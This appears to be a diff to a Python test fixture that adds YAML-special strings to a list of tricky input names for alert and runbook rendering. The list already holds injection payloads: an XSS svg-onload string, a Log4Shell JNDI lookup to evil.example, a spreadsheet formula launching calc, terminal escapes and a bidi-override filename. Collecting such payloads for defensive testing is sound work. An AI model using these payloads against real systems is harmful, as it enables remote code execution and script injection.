@@ -37,7 +37,8 @@ NAMES = (
     "\"><svg onload=alert(1)>", "'", "\"", "carriage\rreturn", "tab\tbed", "\x1b[2J\x1b]0;title\x07", "\u202egnp.exe",
     "\u2066isolated", "zero\u200bwidth", "line\u2028separator", "{{ .Labels }}",
     "{{ template \"slack.default.text\" . }}", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "@here",
-    "@channel", "%0aSubject: x", "a, b", "eth0", "nvme0n1", "dm_crypt_1",
+    "@channel", "%0aSubject: x", "key: value", "- item", "? key", "--- x", "...", "&a *a", "!!binary x", "{a: b}",
+    "a, b", "eth0", "nvme0n1", "dm_crypt_1",
 )  # fmt: skip
 NODE = "http://stor01.example:10047"
 RUNBOOK = f"{NODE}/runbooks/PlumblineNicErrors?device=x&instance=y"
